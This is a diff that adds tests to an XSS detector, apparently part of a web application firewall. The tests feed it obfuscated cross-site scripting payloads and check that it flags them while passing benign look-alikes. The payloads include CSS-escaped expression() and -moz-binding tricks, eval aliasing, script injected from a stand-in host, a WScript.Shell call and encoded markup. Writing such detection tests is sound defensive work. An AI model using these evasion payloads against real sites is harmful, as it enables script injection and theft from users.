@@ -86,4 +86,106 @@ describe('xss detector', () => {
     );
     assert.equal(scores('[1].find(alert)').get('xss.computed-call'), 5);
   });
+
+  test('reads CSS the way a browser does: escapes, comments and script URLs in url()', () => {
+    // `-moz-binding` spelled with a backslash before every letter, and with hex escapes.
+    assert.equal(
+      scores('<p style="\\2d moz\\-b\\i\\nding:url(//evil.example/x.xml#a)">').get('xss.css-expression'),
+      5,
+    );
+    assert.equal(scores('<p style="w\\69 dth:e\\78pression(alert(1))">').get('xss.css-expression'), 5);
+    assert.equal(scores('<p style="width:exp/* gap */ression(alert(1))">').get('xss.css-expression'), 5);
+    // `url(javascript:…)` written in CSS hex escapes (IE fetched it as a script).
+    const escaped = [...'javascript:alert(7)'].map((c) => `\\${c.charCodeAt(0).toString(16)} `).join('');
+    assert.equal(scores(`<p style="background:url('${escaped}')">`).get('xss.css-expression'), 5);
+    // Benign look-alikes: an escaped font name, an image url.
+    assert.equal(strongest('<p style="font-family:\\5b8b\\4f53; background:url(/img/bg.png)">'), 2);
+  });
+
+  test('an XHTML prefix does not hide the element, nor an end tag its style', () => {
+    assert.equal(
+      scores('<x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script>').get('xss.script-tag'),
+      5,
+    );
+    assert.equal(scores('</p style="x:expression(go())">').get('xss.css-expression'), 5);
+    assert.equal(strongest('</b></i>'), 0);
+  });
+
+  test('a dialog or eval stored in a variable and called through it', () => {
+    assert.equal(scores('k=confirm;k(document.domain)').get('xss.sink-alias'), 5);
+    assert.equal(scores('x];run=eval,msg=prompt;run(msg(2))//').get('xss.sink-alias'), 5);
+    // Stored but never called: still only a reference.
+    assert.equal(scores('callback=alert,').get('xss.sink-alias'), undefined);
+    assert.equal(strongest('We raise an alert, then evaluate (quickly) the result'), 0);
+  });
+
+  test('comments between a sink and its parenthesis, a ternary before it', () => {
+    assert.equal(scores('onclick=prompt/* x */(1)').get('xss.js-sink'), 5);
+    assert.equal(scores('x?confirm(1):0').get('xss.js-sink'), 5);
+  });
+
+  test('a script element built by script', () => {
+    assert.equal(
+      scores("d=document;d.body.appendChild(d.createElement('script')).src='//x.example/a.js'").get(
+        'xss.dom-element',
+      ),
+      5,
+    );
+    assert.equal(scores('createElement( "iframe" )').get('xss.dom-element'), 5);
+    assert.equal(strongest('use createElement to build a div'), 0);
+  });
+
+  test('document-level markup counts from paranoia 2; the rich text of comments does not', () => {
+    const rule = (value: string) =>
+      xssDetector.detect(viewsOf(value), 'query', 'query.q').find((h) => h.rule === 'xss.document-tag');
+    for (const value of [
+      '<body>',
+      '</html>',
+      '<input name=pw type=password>',
+      '<svg:svg>',
+      '<!--[if IE]><b>x</b><![endif]-->',
+    ])
+      assert.equal(rule(value)?.paranoia, 2, value);
+    for (const value of [
+      '<b>bold</b> and <i>it</i>',
+      '<p>Hi</p><ul><li>one</li></ul>',
+      'a <bodyguard> tag',
+      '2 < 3 > 1',
+    ])
+      assert.equal(rule(value), undefined, value);
+  });
+
+  test('an ActiveX object created by script', () => {
+    assert.equal(scores("new ActiveXObject('WScript.Shell').Run('calc')").get('xss.dom-element'), 5);
+  });
+
+  test("an end tag that leaves the page's inline script, not one closing a script of its own", () => {
+    assert.equal(scores('"}}</script><b>').get('xss.script-breakout'), 5);
+    assert.equal(scores('</script >').get('xss.script-breakout'), 5);
+    assert.equal(scores('x = 1;</script>').get('xss.script-breakout'), 5);
+    // A snippet with its own start tag, or prose that names the tag.
+    assert.equal(scores('<script src=a.js></script>').get('xss.script-breakout'), undefined);
+    assert.equal(scores('put it before the </script> tag').get('xss.script-breakout'), undefined);
+  });
+
+  test('markup whose letters were written as escapes was hidden on purpose', () => {
+    assert.equal(scores('%3c%69%6d%67%20%73%72%63%3d%78%3e').get('xss.encoded-letters'), 3);
+    assert.equal(strongest('%3cimg%20%73rc=x%20alt=y%3e'), 3);
+    assert.equal(strongest('&#60;&#105;&#102;&#114;&#97;&#109;&#101;&#62;'), 5);
+    // Escaped punctuation only (`%3C`, `&lt;`) is how clients and templates write markup.
+    assert.equal(scores('%3Cb%3Ebold%3C%2Fb%3E').get('xss.encoded-letters'), undefined);
+    assert.equal(scores('&lt;p class=&quot;x&quot;&gt;').get('xss.encoded-letters'), undefined);
+  });
+
+  test('filter probes count from paranoia 2: a bare handler name, a lone encoded angle bracket', () => {
+    const found = (value: string) =>
+      xssDetector.detect(viewsOf(value), 'query', 'query.q').map((h) => `${h.rule}@${h.paranoia}`);
+    assert.deepEqual(found('onpointerenter'), ['xss.handler-name@2']);
+    assert.deepEqual(found('&#x003C;'), ['xss.encoded-angle@2']);
+    assert.deepEqual(found('%3c'), ['xss.encoded-angle@2']);
+    // Words that start like one, plain text, a comparison operator typed as itself.
+    assert.deepEqual(found('onboarding'), []);
+    assert.deepEqual(found('online shop'), []);
+    assert.deepEqual(found('<'), []);
+  });
 });
